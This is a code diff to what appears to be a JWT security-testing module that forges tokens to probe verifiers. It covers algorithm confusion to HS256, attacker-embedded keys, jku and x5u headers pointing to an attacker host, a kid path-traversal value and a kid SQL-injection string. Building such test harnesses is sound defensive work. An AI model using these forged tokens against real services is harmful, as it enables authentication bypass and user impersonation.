@@ -76,11 +76,13 @@ async function attackerKey(): Promise<{ privateKey: CryptoKey; jwk: jose.JWK; ki
 /** Signs `payload` with the attacker's own key under `header`. */
 async function signAsAttacker(
   token: string,
-  header: (kid: string, jwk: jose.JWK) => jose.JWTHeaderParameters,
+  header: (kid: string, jwk: jose.JWK) => Record<string, unknown>,
 ): Promise<string> {
-  const { payload } = parts(token);
+  const { payload, header: genuine } = parts(token);
   const key = await attackerKey();
-  return await new jose.SignJWT(payload).setProtectedHeader(header(key.kid, key.jwk)).sign(key.privateKey);
+  // The token's own header, signed with the attacker's EdDSA key, and what the attack sets in it.
+  const protectedHeader = { ...genuine, alg: "EdDSA", ...header(key.kid, key.jwk) } as jose.JWTHeaderParameters;
+  return await new jose.SignJWT(payload).setProtectedHeader(protectedHeader).sign(key.privateKey);
 }
 
 /** Signs with the target's own key, changing header or claims: only one fault in the token. */
@@ -180,7 +182,7 @@ export const TOKEN_TRANSFORMS = {
     apply: async (token, ctx) => {
       const { header, payload } = parts(token);
       return await new jose.SignJWT(payload)
-        .setProtectedHeader({ ...header, alg: "HS256" } as jose.JWTHeaderParameters)
+        .setProtectedHeader({ ...header, alg: "HS256" })
         .sign(publicKeyBytes(ctx));
     },
   },
@@ -192,7 +194,7 @@ export const TOKEN_TRANSFORMS = {
       if (!x) throw new TypeError('Cannot confuse keys: the target\'s first key has no "x"');
       const { header, payload } = parts(token);
       return await new jose.SignJWT(payload)
-        .setProtectedHeader({ ...header, alg: "HS256" } as jose.JWTHeaderParameters)
+        .setProtectedHeader({ ...header, alg: "HS256" })
         .sign(jose.base64url.decode(x));
     },
   },
@@ -202,7 +204,7 @@ export const TOKEN_TRANSFORMS = {
     apply: (token) =>
       signAsAttacker(
         token,
-        (kid, jwk) => ({ ...parts(token).header, alg: "EdDSA", kid, jwk } as jose.JWTHeaderParameters),
+        (kid, jwk) => ({ kid, jwk }),
       ),
   },
   jku_header: {
@@ -211,7 +213,7 @@ export const TOKEN_TRANSFORMS = {
     apply: (token) =>
       signAsAttacker(
         token,
-        (kid) => ({ ...parts(token).header, alg: "EdDSA", kid, jku: "https://attacker.invalid/jwks.json" }),
+        (kid) => ({ kid, jku: "https://attacker.invalid/jwks.json" }),
       ),
   },
   x5u_header: {
@@ -220,7 +222,7 @@ export const TOKEN_TRANSFORMS = {
     apply: (token) =>
       signAsAttacker(
         token,
-        (kid) => ({ ...parts(token).header, alg: "EdDSA", kid, x5u: "https://attacker.invalid/cert.pem" }),
+        (kid) => ({ kid, x5u: "https://attacker.invalid/cert.pem" }),
       ),
   },
   x5c_header: {
@@ -230,8 +232,6 @@ export const TOKEN_TRANSFORMS = {
       signAsAttacker(
         token,
         (kid) => ({
-          ...parts(token).header,
-          alg: "EdDSA",
           kid,
           x5c: [jose.base64url.encode(crypto.getRandomValues(new Uint8Array(96)))],
         }),
@@ -244,8 +244,6 @@ export const TOKEN_TRANSFORMS = {
       signAsAttacker(
         token,
         (kid) => ({
-          ...parts(token).header,
-          alg: "EdDSA",
           kid,
           x5t: jose.base64url.encode(crypto.getRandomValues(new Uint8Array(20))),
         }),
@@ -258,8 +256,6 @@ export const TOKEN_TRANSFORMS = {
       signAsAttacker(
         token,
         (kid) => ({
-          ...parts(token).header,
-          alg: "EdDSA",
           kid,
           "x5t#S256": jose.base64url.encode(crypto.getRandomValues(new Uint8Array(32))),
         }),
@@ -271,7 +267,7 @@ export const TOKEN_TRANSFORMS = {
     apply: (token, ctx) =>
       signAsAttacker(
         token,
-        () => ({ ...parts(token).header, alg: "EdDSA", jku: `${ctx.apiUrl ?? ""}/.well-known/jwks.json` }),
+        () => ({ jku: `${ctx.apiUrl ?? ""}/.well-known/jwks.json` }),
       ),
   },
   jku_userinfo: {
@@ -279,8 +275,6 @@ export const TOKEN_TRANSFORMS = {
     needs: [],
     apply: (token, ctx) =>
       signAsAttacker(token, (kid) => ({
-        ...parts(token).header,
-        alg: "EdDSA",
         kid,
         jku: `https://${new URL(ctx.apiUrl ?? "https://target.invalid").host}@attacker.invalid/jwks.json`,
       })),
@@ -291,14 +285,13 @@ export const TOKEN_TRANSFORMS = {
     apply: (token, ctx) =>
       signAsAttacker(
         token,
-        (kid) => ({ ...parts(token).header, alg: "EdDSA", kid, x5u: `${ctx.apiUrl ?? ""}/cert.pem` }),
+        (kid) => ({ kid, x5u: `${ctx.apiUrl ?? ""}/cert.pem` }),
       ),
   },
   jwk_with_genuine_kid: {
     description: `signed by the attacker, whose key is embedded as "jwk" under the genuine "kid"`,
     needs: [],
-    apply: (token) =>
-      signAsAttacker(token, (_, jwk) => ({ ...parts(token).header, alg: "EdDSA", jwk } as jose.JWTHeaderParameters)),
+    apply: (token) => signAsAttacker(token, (_, jwk) => ({ jwk })),
   },
   signature_padded: {
     description: `the genuine signature with "=" padding appended, which base64url never has`,
@@ -339,28 +332,24 @@ export const TOKEN_TRANSFORMS = {
   unknown_kid: {
     description: `signed by the attacker under a "kid" the target does not have`,
     needs: [],
-    apply: (token) => signAsAttacker(token, () => ({ ...parts(token).header, alg: "EdDSA", kid: "no-such-key" })),
+    apply: (token) => signAsAttacker(token, () => ({ kid: "no-such-key" })),
   },
   kid_path_traversal: {
     description: `a "kid" that is a path ("../../../../dev/null"), signed by the attacker`,
     needs: [],
-    apply: (token) =>
-      signAsAttacker(token, () => ({ ...parts(token).header, alg: "EdDSA", kid: "../../../../../../dev/null" })),
+    apply: (token) => signAsAttacker(token, () => ({ kid: "../../../../../../dev/null" })),
   },
   kid_injection: {
     description: `a "kid" that is an SQL injection, signed by the attacker`,
     needs: [],
-    apply: (token) =>
-      signAsAttacker(token, () => ({ ...parts(token).header, alg: "EdDSA", kid: "x' UNION SELECT 'secret' --" })),
+    apply: (token) => signAsAttacker(token, () => ({ kid: "x' UNION SELECT 'secret' --" })),
   },
   no_kid: {
     description: `signed by the attacker with no "kid" at all`,
     needs: [],
     apply: (token) =>
-      signAsAttacker(token, () => {
-        const { kid: _, ...header } = parts(token).header;
-        return { ...header, alg: "EdDSA" };
-      }),
+      // An undefined member is left out of the header's JSON.
+      signAsAttacker(token, () => ({ kid: undefined })),
   },
   tampered_payload: {
     description: `"sub" changed to another user, signature kept`,
